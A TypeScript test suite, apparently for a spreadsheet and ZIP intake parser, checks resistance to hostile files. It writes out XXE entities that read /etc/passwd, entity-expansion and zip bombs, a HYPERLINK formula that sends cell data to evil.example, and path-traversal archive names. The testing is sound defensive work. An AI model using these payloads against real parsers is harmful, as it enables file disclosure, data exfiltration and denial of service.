import { deflateRawSync } from 'node:zlib';
import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { fileEntries } from '../../../adapters/intake/file-entries.ts';
import { WORKBOOK } from '../../../adapters/intake/parse.ts';
import { readInThread } from '../../../adapters/intake/read-in-thread.ts';
import { UNSTATED } from '../../../domain/reading/source-format.ts';

const now = new Date('2026-11-27T12:00:00Z');
const NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const PARTS = {
  '[Content_Types].xml':
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
  '_rels/.rels':
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  'xl/workbook.xml': `<workbook ${NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>`,
  'xl/_rels/workbook.xml.rels':
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
};
const inline = (cells: string[]) =>
  cells.map((cell) => `<c t="inlineStr"><is><t>${cell}</t></is></c>`).join('');
const row = (at: number, xml: string) => `<row r="${at}">${xml}</row>`;
const cells = (at: number, values: string[]) =>
  row(
    at,
    values
      .map((value, index) => `<c r="${'ABCDEFG'[index]}${at}" t="inlineStr"><is><t>${value}</t></is></c>`)
      .join(''),
  );
const HEADING = cells(1, ['deal_id', 'customer_name']);
const sheet = (rows: string, before = '') =>
  `<?xml version="1.0"?>${before}<worksheet ${NS}><sheetData>${rows}</sheetData></worksheet>`;

/** A workbook written by hand (ECMA-376). */
function workbook(
  xml: string,
  { more = {}, size }: { more?: Record<string, string>; size?: number } = {},
): Buffer {
  return zip({ ...PARTS, 'xl/worksheets/sheet1.xml': xml, ...more }, size);
}

/** A workbook of LibreOffice written by hand (ODF 1.3, part 3). */
function ods(rows: string, before = ''): Buffer {
  const names = ['office', 'table', 'text'].map(
    (name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`,
  );
  return zip({
    mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
    'content.xml': `<?xml version="1.0"?>${before}<office:document-content ${names.join(' ')}><office:body><office:spreadsheet><table:table table:name="S">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
  });
}
const odsRow = (values: string[], more = '') =>
  `<table:table-row${more}>${values.map((value) => `<table:table-cell office:value-type="string"><text:p>${value}</text:p></table:table-cell>`).join('')}</table:table-row>`;

/** @param size what it says of the size of each of its files, if not the truth */
function zip(files: Record<string, string>, size?: number): Buffer {
  const entries = Object.entries(files);
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const [name, text] of entries) {
    const content = Buffer.from(text);
    // What a file of LibreOffice is, stands unpacked in its first bytes.
    const stored = name === 'mimetype';
    const packed = stored ? content : deflateRawSync(content);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(stored ? 0 : 8, 8);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(stored ? 0 : 8, 10);
    entry.writeUInt32LE(at, 42);
    for (const [buffer, from] of [
      [head, 18],
      [entry, 20],
    ] as const) {
      buffer.writeUInt32LE(packed.length, from);
      buffer.writeUInt32LE(size ?? content.length, from + 4);
      buffer.writeUInt16LE(name.length, from + 8);
    }
    local.push(head, Buffer.from(name), packed);
    central.push(entry, Buffer.from(name));
    at += head.length + name.length + packed.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(Buffer.concat(central).length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...local, ...central, end]);
}

async function read(body: Buffer, ms?: number): Promise<unknown[]> {
  const input = { form: WORKBOOK, body, now, format: UNSTATED } as const;
  const got = await readInThread('rows', input, ms === undefined ? {} : { ms });
  if ('code' in got) return [got.code];
  return got.answer.map((part) =>
    part.ok ? part.parsed.stated.submission.customer_name : part.faults[0].code,
  );
}

test('a workbook written by hand is read', async () => {
  expect(await read(workbook(sheet(HEADING + cells(2, ['1', 'Müritz AG']))))).toEqual(['Müritz AG']);
  expect(
    await read(
      workbook(sheet(row(1, inline(['deal_id', 'customer_name'])) + row(2, inline(['1', 'Bare AG'])))),
    ),
  ).not.toContain('broken');
});

test('a workbook of LibreOffice written by hand is read', async () => {
  expect(await read(ods(odsRow(['deal_id', 'customer_name']) + odsRow(['1', 'Müritz AG'])))).toEqual([
    'Müritz AG',
  ]);
});

test('an entity of its own is not replaced, and no file is read for it', async () => {
  const type = '<!DOCTYPE worksheet [<!ENTITY own "expanded"><!ENTITY file SYSTEM "file:///etc/passwd">]>';
  const got = await read(workbook(sheet(HEADING + cells(2, ['1', '&own;&file;']), type)));
  expect(JSON.stringify(got)).not.toMatch(/expanded|root:/);
});

test('entities in entities cost nothing', async () => {
  const lines = Array.from(
    { length: 20 },
    (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
  );
  const type = `<!DOCTYPE worksheet [<!ENTITY e0 "x">${lines.join('')}]>`;
  const got = await read(workbook(sheet(HEADING + cells(2, ['1', '&e20;']), type)));
  expect(JSON.stringify(got).length).toBeLessThan(1_000);
});

test('a bomb that tells its size is not unpacked, and one that lies ends with its thread', async () => {
  const rows = HEADING + cells(2, ['1', 'x'.repeat(30_000_000)]);
  expect(await read(workbook(sheet(rows)))).toEqual(['workbook_too_large']);
  const lying = workbook(sheet(HEADING + cells(2, ['1', 'x'.repeat(300_000_000)])), { size: 1_000 });
  expect(['workbook_unreadable', 'too_large', 'too_slow', 'broken']).toContain((await read(lying))[0]);
}, 90_000);

test.each([
  [
    'a cell in the last row and column',
    HEADING + cells(2, ['1', 'A']) + row(1_048_576, '<c r="XFD1048576"><v>1</v></c>'),
  ],
  ['a cell beyond every row', HEADING + row(2_000_000_000, '<c r="A2000000000"><v>1</v></c>')],
  ['a column span of millions', HEADING + cells(2, ['1', 'A'])],
])(
  '%s ends in an answer',
  async (_, rows) => {
    const xml = sheet(rows).replace(
      '<sheetData>',
      '<cols><col min="1" max="2000000000" hidden="1"/></cols><sheetData>',
    );
    const [first] = await read(workbook(rows.includes('XFD') ? sheet(rows) : xml), 20_000);
    expect(typeof first === 'string').toBe(true);
  },
  60_000,
);

test('macros, passwords and old formats are refused with what to do', async () => {
  const plain = sheet(HEADING + cells(2, ['1', 'A']));
  expect(await read(workbook(plain, { more: { 'xl/vbaProject.bin': 'x' } }))).toEqual(['workbook_macros']);
  expect(await read(Buffer.from('d0cf11e0a1b11ae1'.padEnd(2_048, '0'), 'hex'))).toEqual(['workbook_old']);
  expect(await read(workbook(plain).subarray(0, 400))).toEqual(['workbook_unreadable']);
});

test('a link to another workbook is read by its last value', async () => {
  const linked = row(
    2,
    '<c r="A2" t="inlineStr"><is><t>1</t></is></c><c r="B2" t="str"><f>[1]S!A1</f><v>Cached AG</v></c>',
  );
  const more = { 'xl/externalLinks/externalLink1.xml': `<externalLink ${NS}/>` };
  expect(await read(workbook(sheet(HEADING + linked), { more }))).toEqual(['Cached AG']);
});

test('any damage to a workbook ends in an answer', async () => {
  const whole = workbook(sheet(HEADING + cells(2, ['1', 'A'])));
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 20 }),
      async (bytes) => {
        const body = Buffer.from(whole);
        for (const [at, byte] of bytes) body[at] = byte;
        expect(Array.isArray(await read(body))).toBe(true);
      },
    ),
    { numRuns: 100 },
  );
}, 60_000);

const RIGHT = HEADING + cells(2, ['1', 'A']);
const many = (n: number, one: (at: number) => string) =>
  Array.from({ length: n }, (_, at) => one(at)).join('');
const merges = (n: number, one: (at: number) => string) =>
  sheet(RIGHT).replace('</sheetData>', `</sheetData><mergeCells>${many(n, one)}</mergeCells>`);

test.each<[string, () => Buffer]>([
  ['one merge over every cell', () => workbook(merges(1, () => '<mergeCell ref="A1:XFD1048576"/>'))],
  ['a merge beyond every cell', () => workbook(merges(1, () => '<mergeCell ref="A1:ZZZZZZ99999999999"/>'))],
  [
    'half a million merges',
    () => workbook(merges(500_000, (at) => `<mergeCell ref="A${at + 2}:B${at + 2}"/>`)),
  ],
  ['merges that overlap', () => workbook(merges(20_000, (at) => `<mergeCell ref="A1:XFD${at + 2}"/>`))],
  [
    'a hundred thousand sheets',
    () =>
      workbook(sheet(RIGHT), {
        more: {
          'xl/workbook.xml': (PARTS['xl/workbook.xml'] ?? '').replace(
            '<sheet ',
            `${many(100_000, (at) => `<sheet name="S${at}" sheetId="${at + 2}" r:id="r1"/>`)}<sheet `,
          ),
        },
      }),
  ],
  [
    'text shared by ten thousand cells',
    () =>
      workbook(
        sheet(
          HEADING +
            many(10_000, (at) =>
              row(at + 2, `<c r="A${at + 2}" t="s"><v>0</v></c><c r="B${at + 2}" t="s"><v>0</v></c>`),
            ),
        ),
        {
          more: { 'xl/sharedStrings.xml': `<sst ${NS}><si><t>${'x'.repeat(32_000)}</t></si></sst>` },
        },
      ),
  ],
  [
    'a column of ODS repeated a billion times',
    () =>
      ods(
        `<table:table-column table:number-columns-repeated="1000000000"/>${odsRow(['deal_id', 'customer_name'])}${odsRow(['1', 'A'])}`,
      ),
  ],
  [
    'a row of ODS repeated a billion times',
    () =>
      ods(
        odsRow(['deal_id', 'customer_name']) + odsRow(['1', 'A'], ' table:number-rows-repeated="1000000000"'),
      ),
  ],
  [
    'a cell of ODS repeated a billion times',
    () =>
      ods(
        odsRow(['deal_id', 'customer_name']) +
          '<table:table-row><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>1</text:p></table:table-cell></table:table-row>',
      ),
  ],
  [
    'blanks of ODS repeated a billion times',
    () => ods(odsRow(['deal_id', 'customer_name']) + odsRow(['1', 'A<text:s text:c="1000000000"/>'])),
  ],
  [
    'elements nested a million deep',
    () => workbook(sheet(HEADING + row(2, `${'<c>'.repeat(300_000)}${'</c>'.repeat(300_000)}`))),
  ],
  [
    'half a million attributes',
    () => workbook(sheet(HEADING + row(2, `<c ${many(300_000, (at) => `a${at}="1" `)}r="A2"/>`))),
  ],
  ['a comment without end', () => workbook(sheet(`${HEADING}<!--${'-'.repeat(2_000_000)}`))],
  ['tags without end', () => workbook(sheet(HEADING + '<c '.repeat(700_000)))],
])(
  '%s ends in an answer, in time and memory',
  async (_, body) => {
    const bytes = body();
    const [before, started] = [process.memoryUsage().rss, Date.now()];
    const [first = 'nothing'] = await read(bytes, 8_000);
    expect(typeof first).toBe('string');
    // The thread's own budget, the time to end it, and a busy machine.
    expect(Date.now() - started).toBeLessThan(40_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(900 * 1024 * 1024);
  },
  60_000,
);

test('entities of ODS are not replaced, and no file is read for them', async () => {
  const type =
    '<!DOCTYPE x [<!ENTITY own "expanded"><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://127.0.0.1:9/x">]>';
  const got = await read(ods(odsRow(['deal_id', 'customer_name']) + odsRow(['1', '&own;&file;&web;']), type));
  expect(JSON.stringify(got)).not.toMatch(/expanded|root:/);
});

test('a formula is text of its last value, never another formula in what we write', async () => {
  const evil = `=HYPERLINK("http://evil.example?"&amp;A1,"x")`;
  expect(await read(workbook(sheet(HEADING + cells(2, ['1', evil]))))).toEqual([
    '=HYPERLINK("http://evil.example?"&A1,"x")',
  ]);
  const unknown = row(
    2,
    '<c r="A2" t="inlineStr"><is><t>1</t></is></c><c r="B2"><f>WEBSERVICE("http://evil.example")</f></c>',
  );
  expect(JSON.stringify(await read(workbook(sheet(HEADING + unknown))))).not.toContain('evil.example');
});

test('names of files in an archive lead nowhere', async () => {
  const names = [
    '../../etc/passwd.csv',
    '/etc/cron.d/x.csv',
    'C:\\windows\\x.csv',
    '..\\..\\x.csv',
    '__proto__',
    'a\u0000b.csv',
    '\u202evsc.x',
  ];
  const body = zip(Object.fromEntries(names.map((name) => [name, 'deal_id,customer_name\n1,A\n'])));
  const entries = await fileEntries('deals.zip', body, 'deal');
  for (const one of entries) {
    expect(one.file).not.toMatch(/\.\.[\\/]|^\/|[\p{Cc}\p{Cf}]/u);
    expect(({} as { bytes?: unknown }).bytes).toBeUndefined();
  }
});

test.each<[string, () => Buffer]>([
  ['an archive of a lying size', () => zip({ 'a.csv': 'x'.repeat(80_000_000) }, 10)],
  ['an archive of a true size', () => zip({ 'a.csv': 'x'.repeat(80_000_000) })],
  [
    'an archive of five thousand files',
    () => zip(Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`${at}.csv`, '']))),
  ],
  ['an archive in itself', () => zip({ 'a.zip': zip({ 'b.csv': 'x' }).toString('latin1') })],
  [
    'a directory that points at itself',
    () => {
      const body = zip({ 'a.csv': 'deal_id' });
      body.writeUInt32LE(0, body.length - 6);
      return body;
    },
  ],
])(
  '%s is opened within its budget or not at all',
  async (_, body) => {
    const started = Date.now();
    const got = await readInThread('unpack', { body: body() });
    expect('code' in got || 'problem' in got.answer || got.answer.entries.length <= 200).toBe(true);
    expect(Date.now() - started).toBeLessThan(30_000);
  },
  60_000,
);
